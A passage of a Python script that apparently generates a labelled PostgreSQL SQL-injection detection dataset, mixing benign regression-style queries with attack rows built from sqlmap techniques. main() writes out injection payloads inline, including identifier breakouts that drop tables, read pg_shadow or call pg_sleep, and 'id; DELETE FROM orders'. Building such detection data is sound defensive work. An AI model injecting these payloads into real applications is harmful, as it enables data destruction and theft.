    ("sx_numeric", "SELECT sqrt(2::numeric(1000,990))"),
    ("sx_numeric", "SELECT power(2::numeric, 0.5), ln(10::numeric), log(2.0, 64), exp(1.0::float8)"),
    ("sx_numeric", "SELECT to_char(1234567.891, '9G999G999D99'), to_char(-0.1, 'FM9.99'), to_number('-34,338,492', '99G999G999')"),
    ("sx_numeric", "SELECT 0.1::float4 + 0.2::float4 AS f4, 0.1::float8 + 0.2::float8 AS f8"),
    ("sx_numeric", "SELECT '1e-400'::float8"),
    ("sx_numeric", "SELECT width_bucket(5.35, 0.024, 10.06, 5), width_bucket(-1, 0, 10, 5)"),
    ("sx_numeric", "SELECT factorial(20), gcd(1071, 462), lcm(21, 6), scale(1.2300), min_scale(1.2300), trim_scale(1.2300)"),
    ("sx_datetime", "SET DateStyle = 'ISO, DMY'"),
    ("sx_datetime", "SELECT date '1999-01-08' + 7, date '2000-03-01' - date '2000-02-01', '2001-02-03'::date - interval '1 month'"),
    ("sx_datetime", "SELECT timestamp with time zone '1999-12-31 23:59:59.99 PST' AT TIME ZONE 'UTC'"),
    ("sx_datetime", "-- should fail, out of range\nSELECT '294277-01-01 00:00:00'::timestamp"),
    ("sx_datetime", "SELECT extract(century FROM date '2000-12-31'), extract(isoyear FROM date '2006-01-01'), extract(julian FROM date '2020-02-29')"),
    ("sx_datetime", "SELECT '1 year 2 months 3 days 04:05:06.7'::interval * 2, interval '1 day' / 3, -interval '-1 hour'"),
    ("sx_datetime", "SELECT date_trunc('quarter', timestamp '2004-08-31 12:00'), date_bin('5 min', timestamp '2020-02-11 15:44:17', timestamp '2001-01-01')"),
    ("sx_datetime", "SELECT (date '2001-02-16', date '2001-12-21') OVERLAPS (date '2001-10-30', date '2002-10-30')"),
    ("sx_datetime", "SELECT to_timestamp('05 Dec 2000', 'DD Mon YYYY'), to_date('2011 12  18', 'YYYY MM DD')"),
    ("sx_datetime", "SELECT 'epoch'::timestamptz, 'infinity'::date > 'today'::date, '-infinity'::timestamp < 'yesterday'"),
    ("sx_datetime", "SELECT make_interval(years := 1, months := 2, secs := 30.5), make_timestamp(2013, 7, 15, 8, 15, 23.5)"),
    ("sx_datetime", "RESET DateStyle"),
    ("sx_arrays", "SELECT (ARRAY[[1,2],[3,4]])[2][1] AS three, (ARRAY[1,2,3])[2:3] AS slice, array_dims('[0:2]={1,2,3}'::int[])"),
    ("sx_arrays", "SELECT '{{1,2},{3,4}}'::int[] @> '{4}' AS t, '{a,b}'::text[] && '{b,c}' AS t2"),
    ("sx_arrays", "-- should fail, mismatched dimensions\nSELECT '{{1,2},{3}}'::int[]"),
    ("sx_arrays", "SELECT array_position(ARRAY['sun','mon','tue'], 'mon'), array_replace(ARRAY[1,2,5,4], 5, 3), array_fill(7, ARRAY[3])"),
    ("sx_arrays", "SELECT unnest(ARRAY[1,2]) AS a, unnest(ARRAY['x','y','z']) AS b"),
    ("sx_arrays", "UPDATE arrtest SET a[1:2] = '{16,25}', b[1:1][1:1] = '{{113}}' WHERE NOT a = '{}'"),
    ("sx_arrays", "SELECT array_to_string(ARRAY[1, NULL, 3], ',', '*'), string_to_array('1|2||3', '|', '')"),
    ("sx_json", "SELECT '{\"a\":1, \"b\":[1,2,{\"c\":true}]}'::json -> 'b' ->> 2"),
    ("sx_json", "-- invalid json, should fail\nSELECT '{\"a\" 1}'::jsonb"),
    ("sx_json", "SELECT jsonb_path_query('{\"a\": [1, 2, 3, 4]}', 'strict $.a[*] ? (@ >= $min)', '{\"min\": 3}')"),
    ("sx_json", "SELECT '[1, \"2\", null]'::jsonb - 1, '{\"a\": {\"b\": 1}}'::jsonb #- '{a,b}', '{\"x\": 1}'::jsonb || '{\"y\": 2}'"),
    ("sx_json", "SELECT * FROM jsonb_to_recordset('[{\"a\":1,\"b\":\"foo\"},{\"a\":\"2\",\"c\":\"bar\"}]') AS x(a int, b text)"),
    ("sx_json", "SELECT json_object('{a,1,b,2}'), json_build_array(1, 'two', NULL, true), to_json('it''s'::text)"),
    ("sx_json", "SELECT jsonb_set('[{\"f1\":1}]', '{0,f1}', '[2,3]', false), jsonb_insert('{\"a\": [0,2]}', '{a, 1}', '\"new\"')"),
    ("sx_ddl", "CREATE TABLE sx_tbl (a int PRIMARY KEY, b text NOT NULL DEFAULT 'x', c numeric(6,2) CHECK (c > 0))"),
    ("sx_ddl", "-- should fail: duplicate key\nINSERT INTO sx_tbl VALUES (1, 'one', 1.5), (1, 'uno', 2.5)"),
    ("sx_ddl", "ALTER TABLE sx_tbl ADD COLUMN d date GENERATED ALWAYS AS ('2000-01-01'::date + a) STORED"),
    ("sx_ddl", "ALTER TABLE sx_tbl RENAME COLUMN b TO b_new"),
    ("sx_ddl", "CREATE TEMP TABLE sx_tmp ON COMMIT DROP AS SELECT * FROM sx_tbl WITH NO DATA"),
    ("sx_ddl", "CREATE TABLE sx_child (z int) INHERITS (sx_tbl)"),
    ("sx_ddl", "CREATE UNLOGGED TABLE sx_unlogged (id serial, payload bytea)"),
    ("sx_ddl", "CREATE TABLE sx_range (logdate date, v int) PARTITION BY RANGE (logdate)"),
    ("sx_ddl", "CREATE TABLE sx_range_2024 PARTITION OF sx_range FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')"),
    ("sx_ddl", "-- should fail: overlapping partition\nCREATE TABLE sx_range_bad PARTITION OF sx_range FOR VALUES FROM ('2024-06-01') TO (MAXVALUE)"),
    ("sx_ddl", "CREATE TABLE sx_hash (a int) PARTITION BY HASH (a)"),
    ("sx_ddl", "CREATE TABLE sx_hash_p0 PARTITION OF sx_hash FOR VALUES WITH (MODULUS 4, REMAINDER 0)"),
    ("sx_ddl", "ALTER TABLE sx_range DETACH PARTITION sx_range_2024 CONCURRENTLY"),
    ("sx_ddl", "DROP TABLE sx_tbl, sx_child CASCADE"),
    ("sx_ddl", "CREATE DOMAIN sx_posint AS int CONSTRAINT positive CHECK (VALUE > 0) NOT NULL"),
    ("sx_ddl", "-- should fail\nSELECT (-1)::sx_posint"),
    ("sx_ddl", "CREATE TYPE sx_comp AS (r float8, i float8)"),
    ("sx_ddl", "SELECT ROW(1.0, 2.0)::sx_comp, (ROW(1.0, 2.0)::sx_comp).i"),
    ("sx_ddl", "CREATE VIEW sx_view AS SELECT a, upper(b_new) AS ub FROM sx_tbl WHERE a > 0 WITH LOCAL CHECK OPTION"),
    ("sx_ddl", "CREATE MATERIALIZED VIEW sx_mv AS SELECT count(*) AS n FROM pg_class WITH NO DATA"),
    ("sx_ddl", "REFRESH MATERIALIZED VIEW CONCURRENTLY sx_mv"),
    ("sx_ddl", "CREATE SEQUENCE sx_seq INCREMENT BY -2 MINVALUE -10 MAXVALUE 10 START 4 CYCLE"),
    ("sx_ddl", "SELECT nextval('sx_seq'), currval('sx_seq'), setval('sx_seq', 9, false)"),
    ("sx_ddl", "CREATE INDEX sx_idx ON sx_tbl USING btree (a DESC NULLS LAST) INCLUDE (c) WHERE c IS NOT NULL"),
    ("sx_ddl", "CREATE INDEX sx_gin ON sx_docs USING gin (to_tsvector('english', body))"),
    ("sx_ddl", "ALTER INDEX sx_idx SET (fillfactor = 70)"),
    ("sx_functions", "CREATE FUNCTION sx_double(x int) RETURNS int LANGUAGE sql IMMUTABLE RETURN x * 2"),
    ("sx_functions", "CREATE FUNCTION sx_concat(VARIADIC a text[]) RETURNS text AS $$ SELECT array_to_string($1, '') $$ LANGUAGE sql"),
    ("sx_functions", "SELECT sx_concat('a', 'b', 'c'), sx_concat(VARIADIC ARRAY['x', 'y'])"),
    ("sx_functions", "CREATE OR REPLACE FUNCTION sx_trig() RETURNS trigger AS $$\nBEGIN\n    NEW.b := lower(NEW.b);\n    RETURN NEW;\nEND;\n$$ LANGUAGE plpgsql"),
    ("sx_functions", "CREATE TRIGGER sx_trig BEFORE INSERT OR UPDATE OF b ON sx_tbl FOR EACH ROW EXECUTE FUNCTION sx_trig()"),
    ("sx_functions", "CREATE PROCEDURE sx_proc(INOUT a int, b int DEFAULT 10) LANGUAGE plpgsql AS $$ BEGIN a := a + b; END $$"),
    ("sx_functions", "CALL sx_proc(5)"),
    ("sx_functions", "DO $$\nDECLARE\n  n int := 0;\nBEGIN\n  FOR i IN 1..10 LOOP\n    n := n + i;\n  END LOOP;\n  RAISE NOTICE 'sum: %', n;\nEND\n$$"),
    ("sx_functions", "-- should fail, function does not exist\nSELECT sx_nosuchfunc(1)"),
    ("sx_functions", "CREATE AGGREGATE sx_sum (int) (sfunc = int4pl, stype = int, initcond = '0')"),
    ("sx_functions", "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, PROCEDURE = int4eq, COMMUTATOR = ===)"),
    ("sx_functions", "DROP FUNCTION IF EXISTS sx_double(int), sx_concat(text[])"),
    ("sx_plpgsql", "CREATE FUNCTION sx_raise(t text) RETURNS void AS $$\nBEGIN\n  RAISE EXCEPTION USING MESSAGE = 'custom: ' || t, ERRCODE = '22012', HINT = 'it''s a test';\nEND\n$$ LANGUAGE plpgsql"),
    ("sx_plpgsql", "CREATE FUNCTION sx_dyn(tbl text) RETURNS bigint AS $$\nDECLARE n bigint;\nBEGIN\n  EXECUTE format('SELECT count(*) FROM %I', tbl) INTO n;\n  RETURN n;\nEND $$ LANGUAGE plpgsql"),
    ("sx_plpgsql", "SELECT sx_dyn('pg_class') > 0 AS t"),
    ("sx_plpgsql", "DO $$ BEGIN PERFORM 1/0; EXCEPTION WHEN division_by_zero THEN RAISE NOTICE 'caught %', SQLSTATE; END $$"),
    ("sx_plpgsql", "CREATE FUNCTION sx_cursor() RETURNS SETOF int AS $$\nDECLARE c CURSOR FOR SELECT g FROM generate_series(1, 3) g;\nBEGIN\n  FOR r IN c LOOP RETURN NEXT r.g; END LOOP;\nEND $$ LANGUAGE plpgsql"),
    ("sx_privileges", "CREATE USER regress_sx_user1"),
    ("sx_privileges", "CREATE ROLE regress_sx_role2 NOLOGIN IN ROLE regress_sx_user1"),
    ("sx_privileges", "GRANT SELECT, UPDATE (b) ON sx_tbl TO regress_sx_user1"),
    ("sx_privileges", "SET SESSION AUTHORIZATION regress_sx_user1"),
    ("sx_privileges", "-- should fail, no privilege\nDELETE FROM sx_tbl WHERE a = 1"),
    ("sx_privileges", "RESET SESSION AUTHORIZATION"),
    ("sx_privileges", "REVOKE ALL ON sx_tbl FROM PUBLIC"),
    ("sx_privileges", "ALTER DEFAULT PRIVILEGES FOR ROLE regress_sx_user1 REVOKE EXECUTE ON FUNCTIONS FROM PUBLIC"),
    ("sx_privileges", "SELECT has_column_privilege('regress_sx_user1', 'sx_tbl', 'b', 'UPDATE')"),
    ("sx_privileges", "DROP ROLE regress_sx_role2, regress_sx_user1"),
    ("sx_privileges", "CREATE POLICY sx_p1 ON sx_tbl FOR SELECT USING (a % 2 = 0)"),
    ("sx_privileges", "ALTER TABLE sx_tbl ENABLE ROW LEVEL SECURITY"),
    ("sx_copy", "COPY sx_tbl (a, b_new) FROM stdin WITH (DELIMITER '|', NULL '\\N')"),
    ("sx_copy", "COPY sx_tbl TO stdout WITH (FORMAT csv, FORCE_QUOTE (b_new), QUOTE '''')"),
    ("sx_copy", "-- should fail, COPY FROM with a column list that does not exist\nCOPY sx_tbl (nosuch) FROM stdin"),
    ("sx_copy", "COPY (SELECT * FROM generate_series(1, 3)) TO stdout"),
    ("sx_copy", "COPY sx_tbl FROM stdin (FORMAT text, FREEZE, HEADER false)"),
    ("sx_misc", "EXPLAIN (COSTS OFF, SUMMARY OFF) SELECT * FROM tenk1 WHERE unique1 = 42"),
    ("sx_misc", "EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT count(*) FROM tenk1 WHERE thousand < 10"),
    ("sx_misc", "SET enable_seqscan = off"),
    ("sx_misc", "SET LOCAL max_parallel_workers_per_gather = 0"),
    ("sx_misc", "RESET enable_seqscan"),
    ("sx_misc", "SHOW datestyle"),
    ("sx_misc", "BEGIN"),
    ("sx_misc", "DECLARE sx_cur SCROLL CURSOR FOR SELECT * FROM tenk1 ORDER BY unique2"),
    ("sx_misc", "FETCH BACKWARD 3 FROM sx_cur"),
    ("sx_misc", "MOVE FORWARD ALL IN sx_cur"),
    ("sx_misc", "CLOSE sx_cur"),
    ("sx_misc", "COMMIT"),
    ("sx_misc", "PREPARE sx_q(int, text) AS SELECT * FROM tenk1 WHERE unique1 = $1 AND stringu1 = $2"),
    ("sx_misc", "EXECUTE sx_q(1, 'AAAAAA')"),
    ("sx_misc", "DEALLOCATE sx_q"),
    ("sx_misc", "SELECT name, statement, parameter_types FROM pg_prepared_statements ORDER BY name"),
    ("sx_misc", "LISTEN sx_chan"),
    ("sx_misc", "NOTIFY sx_chan, 'payload with ''quotes'''"),
    ("sx_misc", "SELECT pg_notification_queue_usage()"),
    ("sx_misc", "UNLISTEN *"),
    ("sx_misc", "LOCK TABLE sx_tbl IN SHARE ROW EXCLUSIVE MODE NOWAIT"),
    ("sx_misc", "SELECT pg_advisory_lock(1), pg_advisory_unlock_all()"),
    ("sx_misc", "VACUUM (FREEZE, DISABLE_PAGE_SKIPPING) sx_tbl"),
    ("sx_misc", "ANALYZE sx_tbl (a, c)"),
    ("sx_misc", "TRUNCATE sx_tbl RESTART IDENTITY CASCADE"),
    ("sx_misc", "SELECT pg_typeof(ROW(1, 'a')), pg_column_size(ROW(1, 'a')), pg_relation_filenode('pg_class') IS NOT NULL"),
    ("sx_misc", "SELECT count(*) > 0 AS ok FROM pg_settings WHERE name LIKE 'enable%'"),
    ("sx_misc", "SELECT relname, relkind FROM pg_class WHERE oid = 'pg_class'::regclass"),
    ("sx_misc", "SELECT current_setting('nosuch.setting', true) IS NULL AS t"),
    ("sx_misc", "SELECT set_config('sx.custom', 'hello', false), current_setting('sx.custom')"),
    ("sx_misc", "SELECT txid_current() IS NOT NULL, pg_current_xact_id_if_assigned() IS NULL"),
    ("sx_misc", "SELECT 1 FROM pg_sleep(0.05)"),
    ("sx_misc", "CREATE SCHEMA sx_schema AUTHORIZATION CURRENT_USER CREATE TABLE t1 (a int) CREATE VIEW v1 AS SELECT * FROM t1"),
    ("sx_misc", "DROP SCHEMA sx_schema CASCADE"),
    ("sx_misc", "COMMENT ON FUNCTION sx_double(int) IS 'doubles; DROP nothing'"),
    ("sx_misc", "SELECT obj_description('sx_tbl'::regclass, 'pg_class')"),
    ("sx_with", "WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n+1 FROM t WHERE n < 100) SELECT sum(n) FROM t"),
    ("sx_with", "WITH q1(x, y) AS (SELECT hundred, sum(ten) FROM tenk1 GROUP BY hundred) SELECT count(*) FROM q1 WHERE y > (SELECT sum(y) / 100 FROM q1 qsub)"),
    ("sx_with", "-- data-modifying CTE\nWITH t AS (DELETE FROM y WHERE a <= 10 RETURNING *) SELECT * FROM t"),
    ("sx_with", "WITH RECURSIVE search_graph(f, t, label) AS (SELECT * FROM graph g UNION ALL SELECT g.* FROM graph g, search_graph sg WHERE g.f = sg.t) SEARCH DEPTH FIRST BY f, t SET seq SELECT * FROM search_graph ORDER BY seq"),
    ("sx_with", "WITH t AS MATERIALIZED (SELECT random() AS r) SELECT r = r AS same FROM t"),
    ("sx_window", "SELECT four, ten, sum(ten) OVER (PARTITION BY four ORDER BY ten RANGE BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) FROM tenk1 WHERE unique1 < 10"),
    ("sx_window", "SELECT x, percent_rank() OVER w, cume_dist() OVER w, nth_value(x, 2) OVER w FROM generate_series(1, 5) x WINDOW w AS (ORDER BY x ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING)"),
    ("sx_window", "-- should fail, window functions are not allowed in WHERE\nSELECT * FROM tenk1 WHERE row_number() OVER () > 2"),
    ("sx_aggregates", "SELECT avg(four) AS avg_1, variance(four), stddev_samp(hundred) FROM onek"),
    ("sx_aggregates", "SELECT bool_and(b), bool_or(b), every(b) FROM (VALUES (true), (false), (NULL::bool)) t(b)"),
    ("sx_aggregates", "SELECT ten, count(*) FILTER (WHERE four > 1), array_agg(DISTINCT four ORDER BY four) FROM onek GROUP BY ten HAVING count(*) > 90"),
    ("sx_aggregates", "SELECT a, b, sum(c) FROM (VALUES (1, 1, 10), (1, 2, 20), (2, 1, 5)) v(a, b, c) GROUP BY ROLLUP (a, b) ORDER BY 1, 2"),
    ("sx_aggregates", "SELECT mode() WITHIN GROUP (ORDER BY four), percentile_cont(ARRAY[0.25, 0.75]) WITHIN GROUP (ORDER BY thousand) FROM tenk1"),
    ("sx_join", "SELECT * FROM J1_TBL t1 NATURAL FULL JOIN J2_TBL t2 ORDER BY 1, 2"),
    ("sx_join", "SELECT * FROM J1_TBL LEFT JOIN J2_TBL USING (i) AS x WHERE x.i > 1"),
    ("sx_join", "select * from int4_tbl a, lateral (select a.f1 + 1 as f2 offset 0) ss where ss.f2 > 0"),
    ("sx_join", "-- should fail, invalid reference to FROM-clause entry\nselect * from int4_tbl a join int4_tbl b on c.f1 = a.f1"),
    ("sx_join", "explain (costs off)\nselect count(*) from tenk1 a join tenk1 b on a.unique1 = b.unique2 where a.hundred = 4"),
    ("sx_geometry", "SELECT point '(1,2)' <-> point '(4,6)' AS dist, box '((0,0),(2,2))' && box '((1,1),(3,3))' AS overlaps"),
    ("sx_geometry", "SELECT circle '<(0,0),2>' @> point '(1,1)', area(circle '((0,0),1)'), center(box '(1,1),(3,3)')"),
    ("sx_geometry", "SELECT lseg '[(0,0),(1,1)]' ?# lseg '[(0,1),(1,0)]', line '{1,-1,0}' ?|| line '{2,-2,5}'"),
    ("sx_network", "SELECT inet '192.168.1.5/24' << cidr '192.168.1.0/24', host(inet '10.1.2.3/8'), masklen(cidr '172.16.0.0/12')"),
    ("sx_network", "SELECT macaddr '08:00:2b:01:02:03' < macaddr8 '08:00:2b:01:02:03:04:05'::macaddr, trunc(macaddr '12:34:56:78:90:ab')"),
    ("sx_network", "-- should fail\nSELECT '192.168.1.300'::inet"),
    ("sx_tsearch", "SELECT to_tsvector('english', 'The quick brown foxes jumped') @@ to_tsquery('english', 'fox & jump')"),
    ("sx_tsearch", "SELECT ts_headline('english', 'The Zen of SQL: select wisely, drop rarely.', to_tsquery('english', 'select | drop'), 'StartSel=<b>, StopSel=</b>')"),
    ("sx_tsearch", "SELECT 'a:1 b:2'::tsvector || 'c:1'::tsvector, '!(a & b) <-> c'::tsquery, numnode('x & y | z'::tsquery)"),
    ("sx_xml", "SELECT xmlelement(name foo, xmlattributes('x' AS bar), 'content'), xmlforest(1 AS a, 'two' AS b)"),
    ("sx_xml", "SELECT xmlserialize(content xmlagg(xmlelement(name n, g)) AS text) FROM generate_series(1, 3) g"),
    ("sx_errors", "-- no such relation\ndelete from nonesuch"),
    ("sx_errors", "-- bad type in CAST\nselect cast(1 as nosuchtype)"),
    ("sx_errors", "-- division by zero in a constant expression\nselect 7 / 0 as x"),
    ("sx_errors", "-- cannot use aggregate in WHERE\nselect ten from tenk1 where sum(ten) > 1 group by ten"),
    ("sx_errors", "alter table nonesuch rename to newnonesuch"),
]

# Type input/output checks as the regression suite writes them (one table
# per type, valid and invalid literals, casts and operators).
REGRESS_TYPES = [
    ("int2", "SX_INT2_TBL", ["0", "  1234 ", "    -1234", "32767", "-32768", "34.5", "100000", "asdf", "", "0x42F", "1_000", "- 1"]),
    ("int8", "SX_INT8_TBL", ["123", "  4567890123456789", "-4567890123456789", "9223372036854775808", "0o17", "xxx", "3908203590239580293850293850329485", "+9"]),
    ("float4", "SX_FLOAT4_TBL", ["    0.0", "1004.30   ", "     -34.84    ", "1.2345678901234e+20", "1.2345678901234e-20", "10e70", "NaN", "   INFINITY   ", "xyz", "5.   0"]),
    ("numeric", "SX_NUM_TBL", ["0", "-0.000000000001", "3.14159265358979", "1e-3", "-Infinity", "NaN", "12.34e5", " 0.0 ", "1,000", "1e100000"]),
    ("bool", "SX_BOOL_TBL", ["t", "  yes  ", "OFF", "on", "0", "y", "tru", "maybe", "FaLsE"]),
    ("date", "SX_DATE_TBL", ["1957-04-09", "J2451187", "January 8, 99 BC", "2040-04-10 BC", "1999-08-31", "99-Jan-08", "2000-02-30", "epoch", "infinity"]),
    ("time", "SX_TIME_TBL", ["00:00", "01:00 AM", "23:59:59.99", "24:00:00", "25:00:00", "11:59 PM", "040506"]),
    ("interval", "SX_INTERVAL_TBL", ["@ 1 minute", "@ 5 hour", "@ 10 day", "@ 34 year", "@ 3 months", "@ 14 seconds ago", "1 day 2 hours 3 minutes 4 seconds", "P1Y2M3DT4H5M6S", "badly formatted interval", "@ 30 eons ago"]),
    ("inet", "SX_INET_TBL", ["192.168.1.226/24", "10.1.2.3/8", "::ffff:1.2.3.4/128", "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff", "192.168.1.2/30", "1.2.3.4/33", "::1", "10:23::8000/113"]),
    ("uuid", "SX_UUID_TBL", ["a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11", "{a0eebc99-9c0b-4ef8-bb6d-6bb9bd380a11}", "A0EEBC999C0B4EF8BB6D6BB9BD380A11", "a0ee-bc99-9c0b-4ef8-bb6d-6bb9-bd38-0a11", "11111111-1111-1111-1111-11111111111x"]),
    ("money", "SX_MONEY_TBL", ["$123.45", "-12.34", "1,000.00", "$-92233720368547758.08", "(1)", "123.456"]),
    ("varbit", "SX_VARBIT_TBL", ["", "0", "010101", "11011", "01010101010", "X1F", "0102"]),
    ("tsvector", "SX_TSV_TBL", ["a b c", "'a b' c:1A", "1:2 2:3", "'\\\\as' ab\\\\c ab\\\\\\\\c", "a:1,2,3 b:4B"]),
    ("int4range", "SX_RANGE_TBL", ["[1,7)", "(,5]", "empty", "[3,3]", "(10,5)", "[1,2,3]", "[-infinity,1)"]),
    ("macaddr", "SX_MACADDR_TBL", ["08:00:2b:01:02:03", "08-00-2b-01-02-03", "08002b:010203", "0800.2b01.0203", "08:00:2b:01:02", "not even close"]),
]
REGRESS_TYPE_FORMS = [
    "INSERT INTO {tbl}(f1) VALUES ('{v}')",
    "SELECT '{v}'::{ty} AS f1",
    "SELECT pg_input_is_valid('{v}', '{ty}')",
    "-- bad input, should fail\nINSERT INTO {tbl}(f1) VALUES ('{v}')",
]
REGRESS_TYPE_EXTRA = [
    "CREATE TABLE {tbl}(f1 {ty})",
    "SELECT f1 FROM {tbl} WHERE f1 <> '{v}' ORDER BY f1",
    "SELECT count(*) FROM {tbl} WHERE f1 IS NOT NULL",
    "SELECT * FROM pg_input_error_info('{v}', '{ty}')",
    "DROP TABLE {tbl}",
]


def fill_cx(sql):
    return (sql.replace("{s}", R.choice(CX_STRS).replace("'", "''")).replace("{w}", R.choice(CX_WORDS))
            .replace("{i}", str(R.choice([2, 7, 12, 30, 45, 99, 250, 1024, 4711])))
            .replace("{d}", R.choice(CX_DAYS)).replace("{tz}", R.choice(TZS)).replace("{h}", rstr(12, "0123456789abcdef"))
            .replace("{{", "{").replace("}}", "}"))


def complex_rows():
    for fam, name, n, shapes in COMPLEX:
        made = 0
        for _ in range(n * 6):
            if made >= n:
                break
            k = R.randrange(len(shapes))
            if emit(fill_cx(shapes[k]), "benign", fam, name, [], f"complex:{name}:{k}"):
                made += 1
    for topic, sql in PG_REGRESS:
        emit(sql, "benign", "pg_regress", "regress_style:" + topic, [], "regress_style:" + topic)
    for ty, tbl, vals in REGRESS_TYPES:
        emit(REGRESS_TYPE_EXTRA[0].format(tbl=tbl, ty=ty), "benign", "pg_regress", "regress_style:sx_type_" + ty, [], "regress_style:type_io")
        for v in vals:
            q = v.replace("'", "''")
            form = R.choice(REGRESS_TYPE_FORMS)
            emit(form.format(tbl=tbl, ty=ty, v=q), "benign", "pg_regress", "regress_style:sx_type_" + ty, [], "regress_style:type_io")
        for form in R.sample(REGRESS_TYPE_EXTRA[1:4], 1):
            emit(form.format(tbl=tbl, ty=ty, v=R.choice(vals).replace("'", "''")), "benign", "pg_regress", "regress_style:sx_type_" + ty, [], "regress_style:type_io")


# ---------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------
def pick_sqlmap(tech):
    cands = [v for v in SQLMAP if v[0] == tech]
    pg = [v for v in cands if v[1] in ("PostgreSQL", "generic")]
    other = [v for v in cands if v[1] not in ("PostgreSQL", "generic")]
    return R.choice(pg if (R.random() < 0.6 or not other) else other)


# per template: sqlmap rows by technique (about dev's shares)
SQLMAP_PLAN = [("time", 6), ("boolean", 5), ("error", 4), ("stacked", 2), ("union", 2)]
# hand-written families drawn per template, weighted like dev's counts
HAND_WEIGHTS = {"tautology": 221, "stacked": 182, "oob_file_program": 134, "time_pg_sleep": 100, "boolean_blind": 111,
                "error_cast": 103, "dollar_quote": 87, "e_escape": 71, "plpgsql_do_exec": 69, "union": 62}
NUM_KINDS = ("num", "numlist", "bool")


def main():
    fams = sorted(HAND_WEIGHTS)
    weights = [HAND_WEIGHTS[f] for f in fams]
    for t in TEMPLATES:
        slots = t["slots"]
        atk_slots = [s for s in slots if s[1] != "dollar"] or slots
        plan = list(SQLMAP_PLAN) + ([("inline", 1)] if R.random() < 0.45 else [])
        for tech, count in plan:
            made = tries = 0
            while made < count and tries < count * 8:
                tries += 1
                slot, kind = R.choice(atk_slots)
                if tech == "union":
                    dbms = R.choice(["PostgreSQL", "PostgreSQL", "PostgreSQL", "MySQL", "Microsoft SQL Server", "Oracle", "generic", "random"])
                    vec = union_vector(dbms) if R.random() < 0.8 else order_probe()
                    title = "Generic UNION query - 1 to 10 columns" if vec.startswith("UNION") else "ORDER BY technique column count"
                else:
                    _, dbms, title, vec = pick_sqlmap(tech)
                raw = sqlmap_attack(t, slot, kind, tech, dbms, vec)
                if raw is None:
                    continue
                if attack_row(t, slot, raw, SQLMAP_FAMILY[tech], f"sqlmap:{dbms}:{title}") == "attack":
                    made += 1
        for fam in R.choices(fams, weights, k=8):
            for _ in range(6):
                slot, kind = R.choice(slots)
                core = R.choice(HAND[fam])
                if hand_attack(t, slot, kind, fam, core, str(HAND[fam].index(core))) == "attack":
                    break
        for obf in R.sample(sorted(OBFS), R.choice([2, 3, 3])):
            for _ in range(5):
                slot, kind = R.choice(slots)
                base, core = R.choice(OBF_BASES)
                if hand_attack(t, slot, kind, obf, OBFS[obf](core), base) == "attack":
                    break
        for slot, kind in slots:
            if kind in ("str", "estr"):
                tl = R.choice(["--", "/*", "-- ", ";--", "--'", "-- x", "#", "; --", "--\t"])
                pre = R.choice(["admin", "guest", "1", "", "test", "me"])
                close = close_of(t, slot) if R.random() < 0.7 else R.choice(["'", "')", "'))"])
                attack_row(t, slot, pre + close + tl, "comment_truncation", f"hand:comment_truncation|close={close} tail={tl.strip()}")
                if R.random() < 0.7:
                    fam, c = R.choice(CONCAT)
                    attack_row(t, slot, R.choice(["", "a", "5"]) + c + R.choice(["", "b"]), fam, f"hand:{fam}:concat")
                backslash_attacks(t, slot, kind)
            elif kind in NUM_KINDS and R.random() < 0.6:
                fam, c = R.choice(NUM_EXPR)
                attack_row(t, slot, c, fam, f"hand:{fam}:num_expr")
            elif kind == "ident":
                for raw in R.sample(['x" FROM pg_shadow --', 'a", version() AS "b', '"; DROP TABLE users; --',
                                     'orders" UNION SELECT usename FROM pg_user --', 'z"; SELECT pg_sleep(6); --'], 2):
                    fam = "stacked" if ";" in raw else "union" if "UNION" in raw else "string_concat_subquery"
                    attack_row(t, slot, raw, fam, f"hand:{fam}:ident_breakout")
            elif kind == "col" and R.random() < 0.7:
                raw = R.choice(["(SELECT CASE WHEN substr(current_user,1,1)='p' THEN id ELSE total END)", "id; DELETE FROM orders",
                                "id,(SELECT pg_sleep(5))", "(SELECT 1/(SELECT 0))", "id UNION SELECT NULL, NULL --"])
                fam = "stacked" if ";" in raw else "time_pg_sleep" if "sleep" in raw else "union" if "UNION" in raw else "boolean_blind"
                attack_row(t, slot, raw, fam, f"hand:{fam}:col_expr")
        # ---------------- benign inputs
        for slot, kind in slots:
            if kind == "ident":
                for v in IDENT_BENIGN:
                    benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
                for raw in R.sample(['x" FROM pg_shadow --', '"; DROP TABLE users; --', 'a" OR "1"="1'], 2):
                    benign_row(t, slot, raw, "escaped_attack_string", "escaped:ident")
                continue
            if kind == "dollar":
                for v in DOLLAR_BENIGN:
                    benign_row(t, slot, v, "input_sql_words", "benign:input_sql_words")
                for fam in R.sample(sorted(BENIGN), 5):
                    benign_row(t, slot, R.choice(BENIGN[fam]), fam, f"benign:{fam}")
                for core in R.sample(HAND["stacked"] + HAND["plpgsql_do_exec"][:3], 3):
                    benign_row(t, slot, "'); " + core.lstrip("; ") + "; --", "escaped_attack_string", "escaped:dollar_without_tag")
                continue
            if kind == "num":
                for v in R.sample(NUM_BENIGN, 6):
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
                continue
            if kind == "numlist":
                for v in NUMLIST_BENIGN:
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
                continue
            if kind == "bool":
                for v in BOOL_BENIGN:
                    benign_row(t, slot, v, "input_numeric", "benign:input_numeric")
                continue
            if kind == "col":
                fam, vals = t["vals"].get(slot, ("input_identifier", COL_BENIGN))
                for v in vals:
                    benign_row(t, slot, v, fam, f"benign:{fam}")
                continue
            if kind == "dir":
                for v in DIR_BENIGN:
                    benign_row(t, slot, v, "input_identifier", "benign:input_identifier")
                continue
            pools = sorted(BENIGN)
            if slot in t["vals"]:
                fam, vals = t["vals"][slot]
                for v in vals:
                    benign_row(t, slot, v, fam, f"benign:{fam}")
                pools = R.sample(pools, 4)
            elif len(slots) > 1:
                pools = R.sample(pools, 6)
            for must in ("input_formatted", "input_plain"):
                if must not in pools:
                    pools.append(must)
            doubled = set(R.sample(pools, len(pools) // 2)) if len(slots) == 1 else set()
            doubled.add("input_formatted")
            for fam in pools:
